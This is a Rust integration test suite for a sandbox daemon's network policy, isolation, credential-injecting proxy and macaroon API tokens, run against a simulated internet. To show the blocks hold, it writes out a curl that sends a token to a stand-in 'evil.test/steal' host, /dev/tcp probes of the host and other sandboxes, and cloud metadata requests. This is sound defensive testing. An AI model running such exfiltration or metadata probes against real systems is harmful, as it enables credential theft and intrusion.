//! Networking end to end: real network namespaces, veths, the bridge and nftables; burrowd's
//! DNS and credential proxy; a fake internet in a namespace this test makes (a DNS server,
//! HTTP and HTTPS echo servers with a test CA). Nothing here reaches a real network: the
//! daemon may only forward to 198.18.0.0/15 (`--uplink-only`) and resolves through the fake
//! DNS only.

use burrow_testkit::burrow_client::{Client, ClientError, Method};
use burrow_testkit::fixtures::{sh_parts, vm_available};
use burrow_testkit::{Daemon, raw_tcp, unique_name};
use serde_json::{Value, json};

const SECRET_VALUE: &str = "ghp_REALsecretVALUE0123456789";

#[path = "support/fake_internet.rs"]
mod fake_internet;
use fake_internet::{FakeInternet, create};

/// `create` on `engine` (None: as `create` does).
async fn create_with(c: &Client, name: &str, engine: Option<burrow_api::EngineKind>) {
    match engine {
        Some(e) => fake_internet::create_on(c, name, Some(e)).await,
        None => create(c, name).await,
    }
}

/// Tests that count what the fake internet received run one at a time.
async fn serial() -> tokio::sync::MutexGuard<'static, ()> {
    static LOCK: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
    LOCK.lock().await
}

const NAMES: &[&str] = &["api.github.test", "evil.test", "pypi.test", "other.test"];

fn world() -> &'static (FakeInternet, Daemon) {
    fake_internet::world(NAMES)
}

/// A shell line that connects to host:port (bounded) and prints the first line it reads, or
/// CONNECTED when the server says nothing. Probes that must fail use it as is: the rules
/// drop, so each waits out its limit.
fn tcp_hello(host: &str, port: u16) -> String {
    tcp_hello_within(3, host, port)
}

/// `tcp_hello` with a limit of `secs` for the whole probe: a control that must succeed
/// from a VM (slow under TCG) is given `control_limit(engine)`.
fn tcp_hello_within(secs: u32, host: &str, port: u16) -> String {
    format!(
        "timeout {secs} bash -c 'exec 3<>/dev/tcp/{host}/{port} && echo CONNECTED && timeout 2 head -1 <&3'"
    )
}

/// How long a probe that must succeed may take from a sandbox on `engine`.
fn control_limit(engine: Option<burrow_api::EngineKind>) -> u32 {
    match engine {
        Some(burrow_api::EngineKind::Vm) => 30,
        _ => 5,
    }
}

async fn set_policy(c: &Client, name: &str, policy: Value) -> Result<Value, ClientError> {
    c.request_json(
        Method::PUT,
        &format!("/v1/sandboxes/{name}/policy/network"),
        Some(&policy),
    )
    .await
}

/// curl in the sandbox; `direct` bypasses the explicit proxy (the transparent path). It
/// trusts `/tmp/trust.pem` (see [`trust_test_ca`]).
/// A curl command line for a probe from a sandbox on `engine`. curl's connect timeout covers
/// the TLS handshake, which a guest under QEMU's TCG on a loaded 2-core machine may take
/// seconds to finish (a CI run saw "SSL connection timeout" at 3 s): a VM gets longer limits.
fn curl(engine: Option<burrow_api::EngineKind>, url: &str, direct: bool, extra: &str) -> String {
    let unset = if direct {
        "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy "
    } else {
        ""
    };
    let (connect, max) = match engine {
        Some(burrow_api::EngineKind::Vm) => (20, 60),
        _ => (3, 10),
    };
    format!(
        "{unset}curl -sS --cacert /tmp/trust.pem --connect-timeout {connect} --max-time {max} {extra} {url}"
    )
}

/// `/tmp/trust.pem` in the sandbox: its own bundle (which has the interception CA) plus the
/// fake internet's CA, which hosts relayed end to end present.
async fn trust_test_ca(c: &Client, name: &str, inet: &FakeInternet) {
    let pem = std::fs::read_to_string(&inet.ca_pem).unwrap();
    let (code, out, err) = sh_parts(
        c,
        name,
        &format!("cat /.burrow/host/ca-bundle.crt > /tmp/trust.pem && printf '%s' '{pem}' >> /tmp/trust.pem"),
    )
    .await;
    assert_eq!(code, 0, "{out}{err}");
}

#[tokio::test]
async fn policy_mode_allows_listed_domains_only() {
    policy_mode_allows_listed_domains_only_on(None).await
}

/// The same policy, DNS and proxy checks against a VM.
#[tokio::test]
async fn a_vm_follows_the_same_policy() {
    if vm_available(&world().1.client()).await {
        policy_mode_allows_listed_domains_only_on(Some(burrow_api::EngineKind::Vm)).await
    }
}

async fn policy_mode_allows_listed_domains_only_on(engine: Option<burrow_api::EngineKind>) {
    let _serial = serial().await;
    let (inet, d) = world();
    let c = d.client();
    let name = unique_name("pol");
    create_with(&c, &name, engine).await;
    trust_test_ca(&c, &name, inet).await;
    set_policy(
        &c,
        &name,
        json!({"mode": "policy", "rules": [
            {"domain": "*.github.test", "action": "allow"},
            {"domain": "pypi.test", "action": "allow"},
            {"domain": "*", "action": "deny"}]}),
    )
    .await
    .unwrap();
    // Allowed names resolve to what the fake DNS says; denied ones are refused.
    let (code, out, _) = sh_parts(&c, &name, "getent hosts api.github.test").await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains(&inet.addr("api.github.test").to_string()), "{out}");
    let (code, _, _) = sh_parts(&c, &name, "getent hosts evil.test").await;
    assert_ne!(code, 0, "a denied name must not resolve");

    for direct in [false, true] {
        // HTTPS to an allowed host works, through the explicit proxy and transparently.
        let (code, out, err) =
            sh_parts(&c, &name, &curl(engine, "https://pypi.test/simple/", direct, "")).await;
        assert_eq!(code, 0, "direct={direct}: {out}{err}");
        let seen: Value = serde_json::from_str(&out).unwrap();
        assert_eq!(seen["host"], "pypi.test");
        assert_eq!(seen["path"], "/simple/");
        // A denied host is not reached.
        let before = inet.requests().len();
        let (code, _, _) = sh_parts(&c, &name, &curl(engine, "https://evil.test/", direct, "")).await;
        assert_ne!(code, 0, "direct={direct}: a denied domain must fail");
        let after = inet.requests();
        assert_eq!(
            after.len(),
            before,
            "direct={direct}: the denied host received a request: {:?}",
            &after[before..]
        );
    }
    // A raw IP is dropped, even one an allowed name resolves to from elsewhere.
    let before = inet.requests().len();
    let other = inet.addr("other.test");
    let (code, out, _) = sh_parts(&c, &name, &curl(engine, &format!("http://{other}/"), true, "-f")).await;
    assert_ne!(code, 0, "{out}");
    let (_, out, _) = sh_parts(&c, &name, &tcp_hello(&other.to_string(), 7000)).await;
    assert!(!out.contains("HELLO"), "a raw IP was reachable: {out}");
    assert_eq!(inet.requests().len(), before);
    // ...while the same port on an allowed name's address is reachable (the check above
    // can fail).
    let allowed = inet.addr("pypi.test");
    let (_, out, _) = sh_parts(
        &c,
        &name,
        &format!(
            "getent hosts pypi.test >/dev/null; {}",
            tcp_hello_within(control_limit(engine), &allowed.to_string(), 7000)
        ),
    )
    .await;
    assert!(
        out.contains("HELLO"),
        "an admitted address was not reachable: {out}"
    );
    c.delete_sandbox(&name).await.unwrap();
}

#[tokio::test]
async fn policy_changes_apply_to_a_running_sandbox_at_once() {
    let _serial = serial().await;
    let (inet, d) = world();
    let c = d.client();
    let name = unique_name("polchg");
    create(&c, &name).await;
    trust_test_ca(&c, &name, inet).await;
    let url = "https://other.test/x";
    set_policy(&c, &name, json!({"mode": "none"})).await.unwrap();
    let (code, _, _) = sh_parts(&c, &name, &curl(None, url, true, "")).await;
    assert_ne!(code, 0, "mode none must block");
    set_policy(&c, &name, json!({"mode": "open"})).await.unwrap();
    let (code, out, err) = sh_parts(&c, &name, &curl(None, url, true, "")).await;
    assert_eq!(code, 0, "open must allow: {out}{err}");
    set_policy(
        &c,
        &name,
        json!({"mode": "policy", "rules": [{"domain": "pypi.test", "action": "allow"}]}),
    )
    .await
    .unwrap();
    let (code, _, _) = sh_parts(&c, &name, &curl(None, url, true, "")).await;
    assert_ne!(code, 0, "policy without other.test must block");
    let got: Value = c
        .get_json(&format!("/v1/sandboxes/{name}/policy/network"))
        .await
        .unwrap();
    assert_eq!(got["mode"], "policy");
    assert_eq!(got["rules"][0]["domain"], "pypi.test");
    let _ = inet;
    c.delete_sandbox(&name).await.unwrap();
}

#[tokio::test]
async fn sandboxes_cannot_reach_the_host_each_other_or_metadata() {
    isolation_of(None).await
}

/// The same probes from a VM (its guest has a network of its own, behind the same rules).
#[tokio::test]
async fn a_vm_cannot_reach_the_host_other_sandboxes_or_metadata() {
    if vm_available(&world().1.client()).await {
        isolation_of(Some(burrow_api::EngineKind::Vm)).await
    }
}

/// Sandbox a (on `engine`) probes the host, the daemon's API, sandbox b (a container), the
/// metadata address and a private range; the host reaching its own service and b reaching
/// itself are the controls.
async fn isolation_of(engine: Option<burrow_api::EngineKind>) {
    let _serial = serial().await;
    let (_inet, d) = world();
    let c = d.client();
    let (a, b) = (unique_name("iso-a"), unique_name("iso-b"));
    create_with(&c, &a, engine).await;
    create(&c, &b).await;
    // A service on the host, on every address; the host itself reaches it (control).
    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (_, b_ip, _) = sh_parts(&c, &b, "hostname -I").await;
    let b_ip = b_ip
        .split_whitespace()
        .next()
        .expect("sandbox b has an address")
        .to_owned();
    // b listens on 7777 and reaches itself (control).
    let (code, out, err) = sh_parts(
        &c,
        &b,
        "nohup python3 -c 'import socket\ns=socket.socket()\ns.bind((\"0.0.0.0\",7777))\ns.listen()\n\
         while True:\n c,_=s.accept(); c.sendall(b\"HELLO\\n\"); c.close()' >/dev/null 2>&1 &\n\
         for i in $(seq 100); do timeout 1 bash -c 'exec 3<>/dev/tcp/127.0.0.1/7777' 2>/dev/null && exit 0; sleep 0.1; done; exit 1",
    )
    .await;
    assert_eq!(code, 0, "listener in b did not come up: {out}{err}");
    // The host's address on the sandboxes' bridge (a VM's guest sees its own link's
    // gateway instead, in front of the same rules).
    let gw = d.subnet.replace(".0/24", ".1");
    if engine.is_none() {
        let (_, seen, _) = sh_parts(&c, &a, "ip route | awk '/default/ {print $3}'").await;
        assert_eq!(seen.trim(), gw, "the subnet's gateway is not the sandbox's");
    }
    assert!(
        std::net::TcpStream::connect((gw.as_str(), port)).is_ok(),
        "control: the host reaches its own service"
    );
    for (what, host, port) in [
        ("the host", gw.clone(), port),
        (
            "the daemon's API port on the gateway",
            gw.clone(),
            d.addr().port(),
        ),
        ("another sandbox", b_ip.clone(), 7777),
        ("the metadata service", "169.254.169.254".to_owned(), 7000),
        ("a private range", "10.0.0.1".to_owned(), 7000),
    ] {
        let (code, out, err) = sh_parts(&c, &a, &tcp_hello(&host, port)).await;
        assert!(
            !out.contains("CONNECTED"),
            "{what} was reachable: {out}{err} (exit {code})"
        );
    }
    // HTTP to the metadata address goes to the transparent proxy, which refuses it.
    let (code, out, _) = sh_parts(
        &c,
        &a,
        "curl -sf --max-time 5 http://169.254.169.254/latest/meta-data/",
    )
    .await;
    assert_ne!(code, 0, "metadata answered: {out}");
    // Root inside cannot change the sandbox's own network (the namespace is the host's).
    // (A VM's root owns its guest's network; the sandbox's namespace is QEMU's, outside.)
    if engine.is_none() {
        let (code, _, _) = sh_parts(&c, &a, "ip addr add 10.9.9.9/32 dev eth0").await;
        assert_ne!(code, 0, "root in the sandbox changed its addresses");
    }
    drop(listener);
    c.delete_sandbox(&a).await.unwrap();
    c.delete_sandbox(&b).await.unwrap();
}

async fn add_secret(c: &Client, name: &str, hosts: &[&str]) {
    let r: Value = c
        .request_json(
            Method::POST,
            "/v1/secrets",
            Some(&json!({"name": name, "value": SECRET_VALUE,
                         "inject": {"header": "Authorization", "format": "token %s"},
                         "hosts": hosts})),
        )
        .await
        .unwrap();
    assert!(
        !r.to_string().contains(SECRET_VALUE),
        "the API returned the value: {r}"
    );
}

#[tokio::test]
async fn secrets_are_injected_for_their_host_only_and_never_enter_the_sandbox() {
    secrets_are_injected_for_their_host_only_and_never_enter_the_sandbox_on(None).await
}

/// The credential proxy for a VM: the same checks.
#[tokio::test]
async fn a_vms_secrets_are_injected_the_same_way() {
    if vm_available(&world().1.client()).await {
        secrets_are_injected_for_their_host_only_and_never_enter_the_sandbox_on(Some(
            burrow_api::EngineKind::Vm,
        ))
        .await
    }
}

async fn secrets_are_injected_for_their_host_only_and_never_enter_the_sandbox_on(
    engine: Option<burrow_api::EngineKind>,
) {
    let _serial = serial().await;
    let (inet, d) = world();
    let c = d.client();
    let name = unique_name("sec");
    let secret = unique_name("gh");
    create_with(&c, &name, engine).await;
    trust_test_ca(&c, &name, inet).await;
    add_secret(&c, &secret, &["api.github.test"]).await;
    let _: Value = c
        .request_json(
            Method::PUT,
            &format!("/v1/sandboxes/{name}/secrets/{secret}"),
            Some(&json!({"env": "GITHUB_TOKEN"})),
        )
        .await
        .unwrap();
    // The sandbox holds a placeholder, and the value is nowhere inside.
    let (_, token, _) = sh_parts(&c, &name, "printf %s \"$GITHUB_TOKEN\"").await;
    assert!(token.starts_with("bm1_"), "{token}");
    let (code, out, _) = sh_parts(
        &c,
        &name,
        &format!(
            "grep -rs -l '{SECRET_VALUE}' /etc /root /tmp /.burrow /proc/self/environ /proc/1/environ; \
             env | grep -c '{SECRET_VALUE}'"
        ),
    )
    .await;
    assert_eq!(
        out.trim(),
        "0",
        "the secret is visible in the sandbox (exit {code}): {out}"
    );
    let listed: Value = c.get_json("/v1/secrets").await.unwrap();
    assert!(!listed.to_string().contains(SECRET_VALUE));
    // Stored sealed: not in the state database (nor its write-ahead log) in clear.
    // (It holds the secret's sealed row: in the file or, in WAL mode, in its log.)
    let db = std::fs::read(d.data_dir.join("state.db")).expect("the daemon's state.db");
    let wal = std::fs::read(d.data_dir.join("state.db-wal")).unwrap_or_default();
    assert!(
        [&db, &wal]
            .iter()
            .any(|b| b.windows(secret.len()).any(|w| w == secret.as_bytes())),
        "the secret's row is in neither state.db nor its WAL"
    );
    for file in ["state.db", "state.db-wal"] {
        let bytes = std::fs::read(d.data_dir.join(file)).unwrap_or_default();
        assert!(
            !bytes
                .windows(SECRET_VALUE.len())
                .any(|w| w == SECRET_VALUE.as_bytes()),
            "{file} holds the secret in clear"
        );
    }

    for direct in [false, true] {
        let before = inet.requests().len();
        let cmd = curl(
            engine,
            "https://api.github.test/user",
            direct,
            "-H \"Authorization: token $GITHUB_TOKEN\"",
        );
        let (code, out, err) = sh_parts(&c, &name, &cmd).await;
        assert_eq!(code, 0, "direct={direct}: {out}{err}");
        // The server got the real value; the sandbox saw it redacted.
        let reqs = inet.requests();
        let last = &reqs[before..];
        assert_eq!(last.len(), 1, "{last:?}");
        assert_eq!(
            last[0]["headers"]["authorization"],
            format!("token {SECRET_VALUE}")
        );
        assert!(
            !out.contains(SECRET_VALUE),
            "the response leaked the secret: {out}"
        );
        assert!(out.contains(&"*".repeat(SECRET_VALUE.len())), "{out}");

        // The same placeholder to a host the secret is not for: refused, nothing sent.
        let before = inet.requests().len();
        let cmd = curl(
            engine,
            "https://evil.test/steal",
            direct,
            "-H \"Authorization: token $GITHUB_TOKEN\" -w '%{http_code}'",
        );
        let (_, out, _) = sh_parts(&c, &name, &cmd).await;
        assert!(out.contains("403") || out.is_empty(), "direct={direct}: {out}");
        assert_eq!(inet.requests().len(), before, "evil.test received the request");
    }

    // An attenuated placeholder: expired, or narrowed to GET and used with POST.
    let mac = burrow_macaroon::Macaroon::decode(&token).unwrap();
    let expired = mac.attenuate(&burrow_macaroon::Caveat::ExpiresAt(1)).encode();
    let get_only = mac
        .attenuate(&burrow_macaroon::Caveat::Methods(vec!["GET".into()]))
        .encode();
    for (tok, method, caveat) in [(&expired, "GET", "expires"), (&get_only, "POST", "methods")] {
        let before = inet.requests().len();
        let cmd = curl(
            engine,
            "https://api.github.test/user",
            false,
            &format!("-X {method} -H 'Authorization: token {tok}' -w ' %{{http_code}}'"),
        );
        let (_, out, _) = sh_parts(&c, &name, &cmd).await;
        assert!(out.contains("403") && out.contains(caveat), "{caveat}: {out}");
        assert_eq!(inet.requests().len(), before);
    }
    // Every use and every refusal is an event, without the value.
    let mut seen = String::new();
    for kind in ["secret.used", "secret.denied"] {
        seen += &d.events_until(&name, &format!("event: {kind}\n")).await;
    }
    assert!(
        !seen.contains(SECRET_VALUE),
        "an event carries the secret: {seen}"
    );
    assert!(
        !d.log_text().contains(SECRET_VALUE),
        "the daemon logged the secret"
    );
    c.delete_sandbox(&name).await.unwrap();
    c.request_json::<Value, ()>(Method::DELETE, &format!("/v1/secrets/{secret}"), None)
        .await
        .ok();
}

#[tokio::test]
async fn bad_policies_and_secrets_are_refused_with_the_reason() {
    let _serial = serial().await;
    let (_inet, d) = world();
    let c = d.client();
    let name = unique_name("bad");
    create(&c, &name).await;
    let e = set_policy(
        &c,
        &name,
        json!({"mode": "policy", "rules": [
        {"domain": "ok.test", "action": "allow"},
        {"domain": "exa mple.com", "action": "allow"}]}),
    )
    .await
    .unwrap_err();
    assert_eq!(e.status(), Some(422), "{e}");
    assert!(e.to_string().contains("exa mple.com"), "{e}");
    let e = set_policy(&c, &name, json!({"mode": "sometimes"}))
        .await
        .unwrap_err();
    assert!(matches!(e.status(), Some(400) | Some(422)), "{e}");
    let e = c
        .request_json::<Value, _>(
            Method::POST,
            "/v1/secrets",
            Some(&json!({"name": "nohost", "value": "x", "hosts": []})),
        )
        .await
        .unwrap_err();
    assert_eq!(e.status(), Some(422), "{e}");
    assert!(e.to_string().contains("host"), "{e}");
    let e = c
        .request_json::<Value, _>(
            Method::PUT,
            &format!("/v1/sandboxes/{name}/secrets/does-not-exist"),
            Some(&json!({"env": "X"})),
        )
        .await
        .unwrap_err();
    assert_eq!(e.status(), Some(404), "{e}");
    c.delete_sandbox(&name).await.unwrap();
}

#[tokio::test]
async fn api_tokens_are_macaroons_with_named_caveats() {
    let _serial = serial().await;
    let (_inet, d) = world();
    let c = d.client();
    let (mine, other) = (unique_name("tok"), unique_name("tok-other"));
    create(&c, &mine).await;
    create(&c, &other).await;
    let r: Value = c
        .request_json(
            Method::POST,
            "/v1/tokens",
            Some(&json!({"caveats": {"sandboxes": [mine], "actions": ["exec"]}})),
        )
        .await
        .unwrap();
    let token = r["token"].as_str().unwrap().to_owned();
    let addr = d.addr();
    let exec = |sb: String, tok: String| async move {
        raw_tcp(
            addr,
            "POST",
            &format!("/v1/sandboxes/{sb}/exec"),
            &[
                ("authorization", &format!("Bearer {tok}")),
                ("content-type", "application/json"),
            ],
            br#"{"cmd":["true"]}"#.to_vec(),
        )
        .await
    };
    assert_eq!(exec(mine.clone(), token.clone()).await.status, 200);
    let denied = exec(other.clone(), token.clone()).await;
    assert_eq!(denied.status, 403);
    assert!(
        denied.json()["error"]["caveat"]
            .as_str()
            .unwrap()
            .starts_with("sandboxes="),
        "{:?}",
        denied.json()
    );
    // An action it lacks.
    let del = raw_tcp(
        addr,
        "DELETE",
        &format!("/v1/sandboxes/{mine}"),
        &[("authorization", &format!("Bearer {token}"))],
        vec![],
    )
    .await;
    assert_eq!(del.status, 403);
    assert!(
        del.error_message().contains("actions="),
        "{}",
        del.error_message()
    );
    // Attenuated offline to an expiry in the past.
    let expired = burrow_macaroon::Macaroon::decode(&token)
        .unwrap()
        .attenuate(&burrow_macaroon::Caveat::ExpiresAt(1))
        .encode();
    let r = exec(mine.clone(), expired).await;
    assert_eq!(r.status, 403);
    assert!(r.error_message().contains("expires"), "{}", r.error_message());
    // Widening by dropping a caveat breaks the signature.
    let forged = burrow_macaroon::Macaroon::mint(b"not the daemon's key", "x", &[]).encode();
    assert_eq!(exec(mine.clone(), forged).await.status, 401);
    assert_eq!(exec(mine.clone(), "garbage".into()).await.status, 401);
    // The admin token is the root: anything goes.
    assert_eq!(exec(other.clone(), d.token()).await.status, 200);
    c.delete_sandbox(&mine).await.unwrap();
    c.delete_sandbox(&other).await.unwrap();
}

#[tokio::test]
async fn rules_survive_a_daemon_crash() {
    let _serial = serial().await;
    let (inet, _) = world();
    // A daemon of its own (it is killed), on the same fake internet.
    let ca = inet.ca_pem.display().to_string();
    let d = Daemon::start_with(&["--dns-upstream", &inet.dns(), "--egress-ca", &ca]);
    let c = d.client();
    let (open, closed) = (unique_name("crash-open"), unique_name("crash-none"));
    create(&c, &open).await;
    create(&c, &closed).await;
    set_policy(&c, &closed, json!({"mode": "none"})).await.unwrap();
    let target = inet.addr("other.test").to_string();
    let check = |c: Client| {
        let (open, closed, target) = (open.clone(), closed.clone(), target.clone());
        async move {
            let (_, out, _) = sh_parts(&c, &open, &tcp_hello(&target, 7000)).await;
            assert!(out.contains("HELLO"), "open sandbox cut off: {out}");
            let (_, out, _) = sh_parts(&c, &closed, &tcp_hello(&target, 7000)).await;
            assert!(!out.contains("CONNECTED"), "sandbox in mode none got out: {out}");
        }
    };
    check(c.clone()).await;
    // kill -9: the running sandboxes are adopted; the tables are rebuilt from the store.
    d.kill9();
    d.restart();
    let c = d.client();
    check(c.clone()).await;
    assert_eq!(
        c.get_json::<Value>(&format!("/v1/sandboxes/{closed}/policy/network"))
            .await
            .unwrap()["mode"],
        "none"
    );
    c.delete_sandbox(&open).await.unwrap();
    c.delete_sandbox(&closed).await.unwrap();
}
